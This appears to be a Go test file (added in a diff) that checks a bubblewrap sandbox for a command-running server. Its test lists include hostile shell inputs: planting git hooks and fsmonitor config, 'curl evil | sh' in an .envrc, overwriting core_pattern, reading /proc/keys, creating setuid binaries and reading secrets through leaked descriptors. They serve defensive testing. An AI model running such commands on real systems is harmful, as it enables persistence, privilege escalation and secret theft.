@@ -1,0 +1,390 @@
+package server_test
+
+import (
+	"fmt"
+	"io/fs"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+
+	"coily.dev/coily/audit"
+	"coily.dev/coily/internal/testserver"
+	"coily.dev/coily/refusal"
+)
+
+// The containment battery (issue 12; docs/threat-model.md names each test
+// against the class it covers). Every test runs a real server and real
+// bubblewrap, as root and, in CI, again as an unprivileged user.
+
+// containment is a server with a named workspace ws (a git repository),
+// a directory outside it holding a secret, and rules running /bin/sh there:
+// "sh" (nothing writable but the workspace) and "git" (may write git data),
+// plus extraRules.
+type containment struct {
+	in      *testserver.Instance
+	ws      string // the workspace
+	outside string // a sibling directory holding "key"
+}
+
+func startContainment(t *testing.T, extraRules string) *containment {
+	t.Helper()
+	requireBwrap(t)
+	root := t.TempDir()
+	c := &containment{ws: filepath.Join(root, "ws"), outside: filepath.Join(root, "outside")}
+	for _, d := range []string{c.ws, c.outside} {
+		if err := os.Mkdir(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(c.outside, "key"), []byte("SECRET-OUTSIDE\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	git(t, c.ws, "init", "-q")
+	git(t, c.ws, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "first")
+	c.in = testserver.Start(t, testserver.Options{Policy: fmt.Sprintf(`version: 1
+limits: {concurrency: 4}
+workspaces: {ws: %s}
+roles: {operator: {permissions: [exec, lockout, unlock, status], commands: ["*"]}}
+commands:
+  - {name: sh, binary: /bin/sh, args: ["**"], flags: any, workspace: ws}
+  - {name: git, binary: /usr/bin/git, args: ["**"], flags: any, workspace: ws, writable: [.git]}
+%s`, c.ws, extraRules)})
+	return c
+}
+
+func git(t *testing.T, dir string, args ...string) string {
+	t.Helper()
+	out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput()
+	if err != nil {
+		t.Fatalf("git %v: %v %s", args, err, out)
+	}
+	return string(out)
+}
+
+// sh runs a script in the workspace and returns the result.
+func (c *containment) sh(t *testing.T, script string) result {
+	t.Helper()
+	return execArgv(t, c.in, "/bin/sh", "-c", script)
+}
+
+// A symbolic link at a protected name — committed to a repository the
+// agent pulled — is never followed: binding it would show what it points
+// at (here a directory outside the workspace) inside the sandbox.
+func TestContainmentProtectedLinkNeverFollowed(t *testing.T) {
+	c := startContainment(t, "")
+	for _, name := range []string{".vscode", ".envrc", ".git/hooks", ".npmrc"} {
+		t.Run(name, func(t *testing.T) {
+			link := filepath.Join(c.ws, name)
+			rel, _ := filepath.Rel(filepath.Dir(link), c.outside)
+			if name == ".git/hooks" {
+				if err := os.RemoveAll(link); err != nil {
+					t.Fatal(err)
+				}
+			}
+			if err := os.Symlink(rel, link); err != nil {
+				t.Fatal(err)
+			}
+			defer os.Remove(link)
+			r := c.sh(t, "cat "+name+"/key; cat "+c.outside+"/key")
+			if strings.Contains(r.stdout+r.stderr, "SECRET-OUTSIDE") {
+				t.Fatalf("the link was followed: %q %q", r.stdout, r.stderr)
+			}
+			if name == ".git/hooks" {
+				return // inside the read-only .git: nothing is followed, nothing to refuse
+			}
+			wantCode(t, r.err, refusal.SandboxUnavailable)
+			if !strings.Contains(r.err.Error(), name) || !strings.Contains(r.err.Error(), "symbolic link") {
+				t.Fatalf("refusal does not name the link: %v", r.err)
+			}
+		})
+	}
+}
+
+// Every git control entry is read-only as a whole, and cannot be renamed,
+// replaced or removed: a command cannot plant hooks, config, a commondir
+// or a gitfile that the host's git would run later — in the workspace's
+// repository, a nested one, or a bare one.
+func TestContainmentGitControlReadOnly(t *testing.T) {
+	c := startContainment(t, "")
+	git(t, c.ws, "init", "-q", "nested/deeper/repo")
+	git(t, c.ws, "init", "-q", "--bare", "bare.git")
+	if err := os.WriteFile(filepath.Join(c.ws, "wt"), nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Mkdir(filepath.Join(c.ws, "linked"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(c.ws, "linked/.git"), []byte("gitdir: ../.git\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	before := snapshot(t, c.ws)
+	for _, attempt := range []string{
+		"echo evil > .git/hooks/pre-commit",
+		"echo '[core] fsmonitor = evil' >> .git/config",
+		"echo ../evil > .git/commondir",
+		"mv .git .git-old",
+		"rm -rf .git",
+		"mv .git/hooks .git/hooks-old",
+		"echo evil > nested/deeper/repo/.git/hooks/post-checkout",
+		"mv nested/deeper/repo/.git nested/deeper/repo/g",
+		"echo evil > bare.git/hooks/pre-receive",
+		"mv bare.git other.git",
+		"echo 'gitdir: /tmp/evil' > linked/.git",
+		"rm linked/.git",
+		"chmod u+w .git/config && echo x >> .git/config",
+	} {
+		r := c.sh(t, attempt)
+		if r.err != nil {
+			t.Fatalf("%s: refused instead of run: %v", attempt, r.err)
+		}
+		if r.exit.GetExitCode() == 0 {
+			t.Errorf("%s: succeeded", attempt)
+		}
+	}
+	if after := snapshot(t, c.ws); after != before {
+		t.Fatalf("git control entries changed:\nbefore:\n%s\nafter:\n%s", before, after)
+	}
+	// Legitimate reads still work.
+	if r := c.sh(t, "git status --short && git log --oneline | wc -l"); r.err != nil || r.exit.GetExitCode() != 0 || !strings.HasSuffix(r.stdout, "1\n") {
+		t.Fatalf("git status/log: %+v", r)
+	}
+}
+
+// snapshot lists every entry of the tree with its mode and content.
+func snapshot(t *testing.T, root string) string {
+	t.Helper()
+	var b strings.Builder
+	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
+		if err != nil {
+			return err
+		}
+		fi, err := os.Lstat(path)
+		if err != nil {
+			return err
+		}
+		rel, _ := filepath.Rel(root, path)
+		fmt.Fprintf(&b, "%s %v", rel, fi.Mode())
+		if fi.Mode().IsRegular() {
+			data, _ := os.ReadFile(path)
+			fmt.Fprintf(&b, " %q", data)
+		}
+		b.WriteString("\n")
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b.String()
+}
+
+// A protected name that did not exist is quarantined after the command
+// that created it: a new .envrc, editor or package-manager configuration,
+// a new repository's .git (with its hooks) in a subdirectory. A rule that
+// may write git data keeps the repositories it creates; the rest is still
+// quarantined. The audit record lists what was.
+func TestContainmentNewProtectedQuarantined(t *testing.T) {
+	c := startContainment(t, "")
+	r := c.sh(t, `echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json &&
+mkdir -p sub && git init -q sub && echo evil > sub/.git/hooks/pre-commit && echo x > sub/.npmrc &&
+echo x > keep.txt && mkdir -p plain && echo x > plain/.npmrc`)
+	if r.err != nil || r.exit.GetExitCode() != 0 {
+		t.Fatalf("run: %+v", r)
+	}
+	for _, gone := range []string{".envrc", ".vscode", "sub/.git", "sub/.npmrc"} {
+		if _, err := os.Lstat(filepath.Join(c.ws, gone)); err == nil {
+			t.Errorf("%s was left in place", gone)
+		}
+		matches, _ := filepath.Glob(filepath.Join(c.ws, gone+".coily-quarantine-*"))
+		if len(matches) != 1 {
+			t.Errorf("%s: quarantined copies %v, want one", gone, matches)
+		}
+	}
+	// Not protected: ordinary files, and a .npmrc in a directory that is
+	// no work tree's root.
+	for _, kept := range []string{"keep.txt", "plain/.npmrc"} {
+		if _, err := os.Lstat(filepath.Join(c.ws, kept)); err != nil {
+			t.Errorf("%s: %v", kept, err)
+		}
+	}
+	rec := lastResult(t, c.in)
+	if q := rec.Details["quarantined"]; !strings.Contains(q, ".envrc") || !strings.Contains(q, "sub/.git") {
+		t.Errorf("audit details %v do not list the quarantined entries", rec.Details)
+	}
+
+	// With writable .git, new repositories are the rule's to make; git
+	// data is writable, hooks and config are not.
+	for _, argv := range [][]string{{"init", "-q", "sub2"}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "two"}} {
+		if r := execArgv(t, c.in, append([]string{"/usr/bin/git"}, argv...)...); r.err != nil || r.exit.GetExitCode() != 0 {
+			t.Fatalf("git %v: %+v", argv, r)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(c.ws, "sub2/.git")); err != nil {
+		t.Errorf("a repository made under writable .git was quarantined: %v", err)
+	}
+	if n := strings.Count(git(t, c.ws, "log", "--oneline"), "\n"); n != 2 {
+		t.Errorf("commit under writable .git: %d commits, want 2", n)
+	}
+	r = execArgv(t, c.in, "/usr/bin/git", "config", "core.fsmonitor", "evil")
+	if r.err != nil || r.exit.GetExitCode() == 0 {
+		t.Errorf("git config under writable .git: %+v", r)
+	}
+	if r := execArgv(t, c.in, "/bin/sh", "-c", "echo evil > .git/hooks/pre-commit"); r.err != nil || r.exit.GetExitCode() == 0 {
+		t.Errorf("hooks under writable .git: %+v", r)
+	}
+	if strings.Contains(git(t, c.ws, "config", "--list", "--local"), "fsmonitor") {
+		t.Error(".git/config was changed")
+	}
+}
+
+// lastResult returns the last exec.result record of the audit log.
+func lastResult(t *testing.T, in *testserver.Instance) audit.Record {
+	t.Helper()
+	recs, err := audit.Tail(filepath.Join(in.StateDir, "audit"), 20)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := len(recs) - 1; i >= 0; i-- {
+		if recs[i].Event == "exec.result" {
+			return recs[i]
+		}
+	}
+	t.Fatal("no exec.result record")
+	return audit.Record{}
+}
+
+// Nothing the sandbox writes carries a setuid or setgid bit on the host,
+// whatever the call (creating with the mode, chmod, install, cp -p).
+func TestContainmentNoSetuid(t *testing.T) {
+	c := startContainment(t, "")
+	probe := buildProbe(t, c.ws)
+	for _, attempt := range []string{
+		"./" + probe + " setuid made-by-open",
+		"cp /bin/true t1 && chmod u+s t1",
+		"cp /bin/true t2 && chmod g+s t2",
+		"install -m 4755 /bin/true t3",
+		"mkdir d && chmod g+s d",
+	} {
+		if r := c.sh(t, attempt); r.err != nil {
+			t.Fatalf("%s: %v", attempt, r.err)
+		}
+	}
+	err := filepath.WalkDir(c.ws, func(path string, d fs.DirEntry, err error) error {
+		if err != nil {
+			return err
+		}
+		if fi, err := os.Lstat(path); err == nil && fi.Mode()&(fs.ModeSetuid|fs.ModeSetgid) != 0 {
+			t.Errorf("%s is %v on the host", path, fi.Mode())
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+// buildProbe builds internal/sandboxprobe into dir and returns its name.
+func buildProbe(t *testing.T, dir string) string {
+	t.Helper()
+	if out, err := exec.Command("go", "build", "-o", filepath.Join(dir, "probe"), "coily.dev/coily/internal/sandboxprobe").CombinedOutput(); err != nil {
+		t.Fatalf("build probe: %v %s", err, out)
+	}
+	return "probe"
+}
+
+// The kernel's interfaces: no sysctl the host acts on can be changed, no
+// kernel secret read, /sys is not there. Run as root, this is what stops a
+// command from setting core_pattern to a program of its own.
+func TestContainmentKernelInterfaces(t *testing.T) {
+	c := startContainment(t, "")
+	corePattern, err := os.ReadFile("/proc/sys/kernel/core_pattern")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, attempt := range []string{
+		"echo '|/tmp/evil' > /proc/sys/kernel/core_pattern",
+		"echo 1 > /proc/sys/kernel/sysrq",
+		"echo 1 > /proc/sys/vm/drop_caches",
+		"test -e /proc/sysrq-trigger && echo b > /proc/sysrq-trigger",
+		"ls /sys/kernel",
+		"test -s /proc/keys && cat /proc/keys",
+		"test -s /proc/timer_list && cat /proc/timer_list",
+		"test -s /proc/kcore",
+	} {
+		r := c.sh(t, attempt)
+		if r.err != nil {
+			t.Fatalf("%s: %v", attempt, r.err)
+		}
+		if r.exit.GetExitCode() == 0 {
+			t.Errorf("%s: succeeded: %q", attempt, r.stdout)
+		}
+	}
+	if now, _ := os.ReadFile("/proc/sys/kernel/core_pattern"); string(now) != string(corePattern) {
+		os.WriteFile("/proc/sys/kernel/core_pattern", corePattern, 0)
+		t.Fatalf("core_pattern changed to %q", now)
+	}
+	if r := c.sh(t, "cat /proc/sys/kernel/ostype /proc/self/status >/dev/null && echo readable"); r.stdout != "readable\n" {
+		t.Errorf("procfs reads: %+v", r)
+	}
+}
+
+// The command inherits exactly stdin, stdout and stderr, whatever the
+// server holds open: a descriptor opened without O_CLOEXEC, one inherited.
+func TestContainmentDescriptors(t *testing.T) {
+	c := startContainment(t, "")
+	probe := buildProbe(t, c.ws)
+	leak, err := syscall.Open(filepath.Join(c.outside, "key"), syscall.O_RDONLY, 0) // no O_CLOEXEC
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer syscall.Close(leak)
+	high := 200
+	if err := syscall.Dup2(leak, high); err != nil {
+		t.Fatal(err)
+	}
+	defer syscall.Close(high)
+	r := c.sh(t, "./"+probe+" fds")
+	if r.err != nil || r.exit.GetExitCode() != 0 {
+		t.Fatalf("%+v", r)
+	}
+	if got := strings.TrimSpace(r.stdout); got != "0 1 2" {
+		t.Fatalf("descriptors in the sandbox: %q, want 0 1 2", got)
+	}
+	if r := c.sh(t, fmt.Sprintf("cat <&%d; cat /proc/self/fd/%d", high, leak)); strings.Contains(r.stdout, "SECRET") {
+		t.Fatal("a server descriptor reached the command")
+	}
+}
+
+// argv[0] is what the caller gave (here /bin/sh, which resolves to dash),
+// in the command and in the audit record alike.
+func TestContainmentArgv0(t *testing.T) {
+	c := startContainment(t, "")
+	r := c.sh(t, `tr '\0' '\n' < /proc/$$/cmdline | head -1`)
+	if r.err != nil || r.stdout != "/bin/sh\n" {
+		t.Fatalf("argv[0] in the sandbox: %+v", r)
+	}
+	if rec := lastResult(t, c.in); len(rec.Argv) == 0 || rec.Argv[0] != "/bin/sh" {
+		t.Fatalf("audit argv %q", rec.Argv)
+	}
+}
+
+// Socket families: every form of a family the command does not need is
+// refused (socket and socketpair alike): vsock (the hypervisor), netlink
+// but for routing, packet, alg, and unix without a rule naming sockets.
+func TestContainmentSocketFamilies(t *testing.T) {
+	c := startContainment(t, "")
+	probe := buildProbe(t, c.ws)
+	for _, p := range []string{"socket 40 1 0", "socket 16 3 9", "socket 17 3 0", "socket 38 5 0", "socket 1 1 0", "socketpair 1", "socketpair 2"} {
+		r := c.sh(t, "./"+probe+" "+p)
+		if r.err != nil || r.exit.GetExitCode() == 0 {
+			t.Errorf("%s: %+v", p, r)
+		}
+	}
+	for _, p := range []string{"socket 2 1 0", "socket 10 2 0", "socket 16 3 0"} {
+		if r := c.sh(t, "./"+probe+" "+p); r.err != nil || r.exit.GetExitCode() != 0 {
+			t.Errorf("%s refused: %+v", p, r)
+		}
+	}
+}
